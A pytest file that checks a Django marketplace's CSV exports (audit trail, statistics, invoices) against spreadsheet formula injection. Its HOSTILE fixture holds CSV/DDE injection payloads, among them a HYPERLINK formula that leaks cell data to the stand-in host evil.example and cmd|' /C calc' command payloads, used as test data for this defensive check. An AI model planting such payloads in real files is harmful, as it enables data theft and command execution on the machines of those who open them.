"""Every CSV export neutralises formulas in every text cell (DESIGN.md: CSV injection), through
the one writer in marketplace/csv_export.py: hostile organization names, user e-mails and
names, dataset titles, offer names and payment references go into the audit trail, the
statistics and the invoices, and come out of each export as plain text."""

from __future__ import annotations

import codecs
import csv
import io

import pytest

from marketplace import csv_export
from tests import factories
from tests.conftest import english_client
from tests.transactions.factories import make_world, request_in_state, submit
from transactions import services
from transactions.extracts import writers
from transactions.models import AccessRequest

pytestmark = pytest.mark.django_db

HOSTILE = {
    "organization": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "dataset": "+cmd|' /C calc'!A0",
    "offer": "-2+3+cmd|' /C notepad'!A0",
    "reference": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.fixture
def hostile_world(operator_org, operator, center, buyer):
    buyer.name = HOSTILE["organization"]
    buyer.save(update_fields=["name"])
    center.name = HOSTILE["tab"]
    center.save(update_fields=["name"])
    world = make_world(operator_org, operator, center, buyer)
    dataset = factories.published_dataset(center, title=HOSTILE["dataset"])
    request = request_in_state(
        world, AccessRequest.State.AWAITING_PAYMENT, dataset=dataset, name=HOSTILE["offer"]
    )
    services.invoice_mark_paid(actor=operator, invoice=request.invoice, reference=HOSTILE["reference"])
    return world


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content)
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _assert_no_formula(rows: list[list[str]], expected: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    starting_like_a_formula = [c for c in cells if c[:1] in csv_export.FORMULA_TRIGGERS]
    assert starting_like_a_formula == []
    for value in expected:
        assert "'" + value in cells, value  # kept, as text


EXPORTS = {
    "audit": ("/api/v1/audit/?format=csv", ["organization", "tab"]),
    "stats": ("/api/v1/stats/?format=csv", ["dataset", "offer"]),
    "invoices": ("/api/v1/invoices/?format=csv", ["organization", "reference"]),
}


@pytest.mark.parametrize("export", list(EXPORTS))
def test_hostile_names_leave_every_export_as_plain_text(hostile_world, export):
    path, planted = EXPORTS[export]
    client = english_client()
    client.force_authenticate(hostile_world.operator)
    _assert_no_formula(_rows(client.get(path)), [HOSTILE[key] for key in planted])


def test_an_actor_named_like_a_formula_is_neutralised_in_the_audit_csv(hostile_world):
    """The actor column is the e-mail address, which may legally start with `=` or `+`."""
    actor = factories.member(hostile_world.buyer, "analyst", email="=1+1@example.kr")
    submit(actor, hostile_world.offer())
    client = english_client()
    client.force_authenticate(hostile_world.operator)
    _assert_no_formula(_rows(client.get("/api/v1/audit/?format=csv")), ["=1+1@example.kr"])


def test_numbers_stay_numbers_and_the_rule_is_the_extracts_rule():
    assert csv_export.FORMULA_TRIGGERS == writers.FORMULA_TRIGGERS
    lines = list(csv_export.csv_lines(["a", "b", "c"], [[-5, "-5", None]]))
    assert lines[1] == "-5,'-5,\r\n"  # a negative amount stays a number; text that looks like one does not
